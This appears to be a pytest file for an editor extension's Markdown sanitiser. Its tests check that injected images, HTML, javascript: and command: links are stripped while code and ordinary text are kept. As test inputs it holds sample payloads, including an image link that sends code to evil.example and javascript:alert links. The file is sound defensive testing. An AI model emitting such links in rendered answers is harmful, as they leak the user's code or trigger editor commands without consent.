"""The Markdown sanitiser against real injection payloads: what comes out, *parsed the way an editor parses
it*, holds no image, no HTML and no link but http(s); code stays code; ordinary answers read the same."""

from __future__ import annotations

import html

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_payloads import PAYLOADS, markdown_dangers, parse_markdown

from arb_lsp.explain import format_hover
from arb_lsp.privacy.markdown import is_safe_link, plain_message, sanitize_markdown, scrub_doc_text


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_payloads_leave_no_image_html_or_non_http_link(payload: str) -> None:
    # Each payload is dangerous as given, or once a careless step decodes its entities or escapes, or hides
    # its danger behind a fence.
    naive = (payload, html.unescape(payload), payload.replace("\\", ""))
    assert any(markdown_dangers(p) for p in naive) or "```" in payload
    safe = sanitize_markdown(payload)
    assert markdown_dangers(safe) == []
    assert markdown_dangers(sanitize_markdown(safe)) == []


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_payloads_stay_safe_under_the_hover_footer(payload: str) -> None:
    hover = format_hover(payload, model="m/x", cost_usd=0.0)
    assert markdown_dangers(hover) == []
    assert hover.rstrip().endswith("— m/x · free")  # the footer is outside any code block
    last = [t for t in parse_markdown(hover) if t.type == "inline"][-1]
    assert "m/x" in last.content


def test_unclosed_fence_keeps_the_image_as_code_and_closes_the_fence() -> None:
    safe = sanitize_markdown(PAYLOADS["unclosed fence hides an image"])
    tokens = parse_markdown(safe + "\n\nafter ![y](https://e.example/y.png)")
    fences = [t for t in tokens if t.type == "fence"]
    assert len(fences) == 1 and "![leak]" in fences[0].content and fences[0].info == "python"
    # What follows the sanitised text is outside the fence again (so the footer is too), and still parsed.
    assert any(c.type == "image" for t in tokens if t.type == "inline" for c in t.children or [])


def test_code_stays_code_verbatim() -> None:
    code = 'def f(a):\n    return "<img src=x>" + "![a](b)" + "[c](command:d)"'
    safe = sanitize_markdown(f"Explains:\n\n```python\n{code}\n```\n\nInline `[x](command:y)` too.")
    fence = next(t for t in parse_markdown(safe) if t.type == "fence")
    assert fence.content == code + "\n"
    assert "`[x](command:y)`" in safe


def test_http_links_stay_clickable_and_show_their_address() -> None:
    safe = sanitize_markdown("See [the docs](https://docs.python.org/3/library/os.html) and <https://example.com/a>.")
    links = [c.attrs["href"] for t in parse_markdown(safe) for c in t.children or [] if c.type == "link_open"]
    assert links == ["https://docs.python.org/3/library/os.html", "https://example.com/a"]
    assert "the docs (<https://docs.python.org/3/library/os.html>)" in safe


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("Adds **a** and **b** and returns the sum.", "Adds **a** and **b** and returns the sum."),
        ("Returns `None` when *empty*.", "Returns `None` when *empty*."),
        ("- one\n- two", "- one\n- two"),
        ("1. first\n2. second", "1. first\n2. second"),
        ("Uses List<String> here", "Uses List\\<String\\> here"),
        ("```js\nlet x = 1;\n```", "```js\nlet x = 1;\n```"),
        ("A\n\n---\n\nB", "A\n\n---\n\nB"),
    ],
)
def test_ordinary_answers_read_the_same(markdown: str, expected: str) -> None:
    assert sanitize_markdown(markdown) == expected


@pytest.mark.parametrize(
    ("href", "safe"),
    [
        ("https://example.com", True),
        ("HTTP://EXAMPLE.COM/x", True),
        ("javascript:alert(1)", False),
        ("https:evil", False),
        ("//evil.example/x", False),
        ("ｈttps://evil.example", False),
        ("https://evil.example/>x", False),
        ("vscode://x", False),
    ],
)
def test_is_safe_link(href: str, safe: bool) -> None:
    assert is_safe_link(href) is safe


def test_messages_lose_their_links() -> None:
    message = (
        "Provider said: [Fix it](command:workbench.action.reloadWindow) or see [docs](https://openrouter.ai/docs)."
    )
    assert plain_message(message) == "Provider said: Fix it or see docs (https://openrouter.ai/docs)."
    assert "](" not in plain_message("[a]\\](command:x)")


def test_doc_text_loses_images_html_and_non_http_links_but_keeps_its_layout() -> None:
    doc = (
        "Add two numbers ![s](https://evil.example/x.png?d=code).\n\n"
        "Parameters\n----------\na : int\n    <img src=https://evil.example/y.png>First.\n"
        "See [docs](https://example.com) and [run](command:x) <javascript:alert(1)>."
    )
    cleaned = scrub_doc_text(doc)
    assert "evil.example" not in cleaned and "command:" not in cleaned and "<javascript" not in cleaned
    assert "Parameters\n----------\na : int\n" in cleaned and "[docs](https://example.com)" in cleaned


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("![]()<>`~*_&#;:/\\\n -|ahjtps=.@1")), max_size=60))
def test_any_text_comes_out_without_danger(text: str) -> None:
    assert markdown_dangers(sanitize_markdown(text)) == []
